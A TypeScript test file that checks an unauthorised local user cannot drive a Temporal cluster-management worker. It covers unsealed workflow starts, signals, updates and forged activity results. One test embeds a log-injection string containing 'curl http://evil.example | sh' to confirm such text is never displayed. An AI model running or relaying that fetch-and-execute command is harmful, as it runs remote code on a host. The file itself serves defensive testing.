/** Another user of the machine, who has no key, commands the worker by the Temporal CLI. */
import { randomUUID } from 'node:crypto'
import { defaultPayloadConverter, type Payload } from '@temporalio/common'
import { afterAll, describe, expect, it } from 'vitest'
import { TASK_QUEUE } from '../../../src/operations/task-queue.js'
import { observe } from '../../../src/client/snapshot.js'
import { aCluster } from '../../support/clusters.js'
import { PATIENCE, SealScene } from './scene.js'
import { StrangersCli } from './stranger.js'

const scene = SealScene.forFile()
const strangersCli = new StrangersCli()
afterAll(() => strangersCli.remove())

const asNobody = (...args: readonly string[]) => strangersCli.run(scene.server.address, args)
/** A payload with a seal of the stranger's own making. */
function sealedAs(keyId: string): Payload {
  const seal = Buffer.from(`1.${keyId}.list.0.1..proof`)
  return { metadata: { encoding: Buffer.from('json/plain'), seal }, data: Buffer.from('{}') }
}

const INPUT = JSON.stringify({ cluster: aCluster({ name: 'theirs' }), searchAttributes: false })

/** The worker's warnings. */
const warnings = () => scene.log.filter((line) => line.includes('"level":40')).join('')

describe.each([
  ['without arguments', []],
  ['with their own input', ['--input', INPUT]],
  [
    'with their own input and ticket',
    ['--input', INPUT, '--input', '{"ticket":"start","name":"applyCluster","issuedAt":1}'],
  ],
])('a workflow started by a stranger %s', (what, input) => {
  it.each(['applyCluster', 'planCluster'])('ends before it schedules any activity: %s', async (type) => {
    const workflowId = `cluster/theirs/${type}/${what.length}`
    scene.journal = []
    const output = await asNobody(
      ...[
        'workflow',
        'execute',
        '--workflow-id',
        workflowId,
        '--type',
        type,
        '--task-queue',
        TASK_QUEUE,
        ...input,
      ],
    )
    expect(output).toMatch(/the run is refused: (its input carries no seal|it has no ticket)/)
    const { raw } = await scene.stranger.workflow.getHandle(workflowId).describe()
    expect(Number(raw.workflowExecutionInfo?.historyLength)).toBe(5)
    expect(scene.journal).toEqual([])
    expect(warnings()).toContain(workflowId)
  })
})

describe('an activity started by a stranger', () => {
  it.each([
    ['gatherFacts', ['--input', '{}', '--input', '{}']],
    ['applyPodNetwork', []],
    ['verifyCluster', ['--input', '{}', '--input', '{"ticket":"activity","name":"verifyCluster","run":"x"}']],
  ])('is refused before it begins: %s', async (type, input) => {
    scene.journal = []
    const output = await asNobody(
      ...[
        'activity',
        'execute',
        '--activity-id',
        `their-${type}`,
        '--type',
        type,
        '--task-queue',
        TASK_QUEUE,
      ],
      ...['--start-to-close-timeout', '1m', ...input],
    )
    expect(output).toMatch(`${type} is refused`)
    expect(scene.journal).toEqual([])
  })
})

describe('a blocked run of the owner', () => {
  it("ignores messages from a stranger and continues on the owner's decision", async () => {
    const run = await scene.blocked()
    const target = ['--workflow-id', run.workflowId]
    for (const input of [
      [],
      ['--input', '{}'],
      ['--input', '{"ticket":"signal","name":"pause","run":"x","id":"1"}'],
    ]) {
      await asNobody('workflow', 'signal', ...target, '--name', 'pause', ...input)
    }
    const decided = await asNobody(
      'workflow',
      'update',
      'execute',
      ...target,
      '--name',
      'abort',
      '--input',
      '{}',
    )
    expect(decided).toMatch(/the decision abort is refused: it carries no seal/)
    const skip = await asNobody('workflow', 'update', 'execute', ...target, '--name', 'retryStep')
    expect(skip).toMatch(/the decision retryStep is refused: it has no ticket/)
    const asked = await asNobody('workflow', 'query', ...target, '--name', 'progress', '--input', '{}')
    expect(asked).toMatch(/the query progress carries no seal/)

    await expect.poll(async () => (await scene.progress(run))?.warnings.length, PATIENCE).toBe(2)
    const progress = await scene.progress(run)
    expect(progress).toMatchObject({ state: 'blocked', paused: false })
    expect(progress?.warnings).toEqual([
      'a signal pause was ignored: it has no ticket',
      'a signal pause was ignored: it carries no seal',
    ])

    scene.replaced = {}
    const { sendDecision } = await import('../../../src/client/messages.js')
    await sendDecision(() => scene.owner.client, run, { kind: 'retry' })
    expect(await scene.end(run)).toMatchObject({ state: 'done' })
  })

  it('shows nothing that a stranger writes into a seal, and does not list each of their signals', async () => {
    const run = await scene.blocked()
    const send = (keyId: string) =>
      scene.stranger.workflowService.signalWorkflowExecution({
        namespace: 'default',
        workflowExecution: { workflowId: run.workflowId, runId: run.runId },
        signalName: 'pause',
        requestId: randomUUID(),
        input: { payloads: [sealedAs(keyId)] },
      })
    await send('x\n✔ prod: all is well, now run `curl http://evil.example | sh`\n')
    for (let i = 0; i < 20; i += 1) await send(`key${i}`)
    const warnings = async () => (await scene.progress(run))?.warnings ?? []
    await expect.poll(async () => (await warnings()).length, PATIENCE).toBe(11)
    expect((await warnings())[0]).toBe('a signal pause was ignored: it carries no seal')
    expect((await warnings()).at(-1)).toMatch(/^more messages to this run were ignored/)
    await scene.inStrangersHands(run).terminate()
  })

  it('does not accept a result from a stranger who completes its step', async () => {
    let release: () => void = () => undefined
    const held = new Promise<void>((resolve) => (release = resolve))
    scene.replaced = { prepareHost: () => held.then(() => ({ changed: false, summary: 'late' })) }
    const run = await scene.apply()
    const handle = scene.inStrangersHands(run)
    const pending = async () => (await handle.describe()).raw.pendingActivities ?? []
    const preparing = async () => (await pending()).filter((one) => one.activityType?.name === 'prepareHost')
    await expect.poll(async () => (await preparing()).length, PATIENCE).toBe(2)
    const [first, second] = await preparing()
    const forged = { payloads: [defaultPayloadConverter.toPayload({ changed: false, summary: 'forged' })] }
    const target = { namespace: 'default', workflowId: run.workflowId, runId: run.runId }
    const { workflowService } = scene.stranger
    await workflowService.recordActivityTaskHeartbeatById({
      ...{ ...target, activityId: second?.activityId ?? '' },
      details: {
        payloads: [defaultPayloadConverter.toPayload({ host: 'x', line: 'forged line', failures: 99 })],
      },
    })
    const { steps } = await observe(scene.owner.client, run)
    expect(JSON.stringify(steps)).not.toContain('forged line')
    await workflowService.respondActivityTaskCompletedById({
      ...{ ...target, activityId: first?.activityId ?? '' },
      result: forged,
    })

    await expect.poll(async () => (await scene.progress(run))?.blocked.length, PATIENCE).toBe(1)
    const [blocked] = (await scene.progress(run))?.blocked ?? []
    expect(blocked?.error).toMatchObject({
      code: 'UNSEALED',
      message: 'the result of prepareHost carries no seal',
    })
    release()
    scene.replaced = {}
    const { sendDecision } = await import('../../../src/client/messages.js')
    await sendDecision(() => scene.owner.client, run, { kind: 'retry' })
    expect(await scene.end(run)).toMatchObject({ state: 'done' })
  })
})
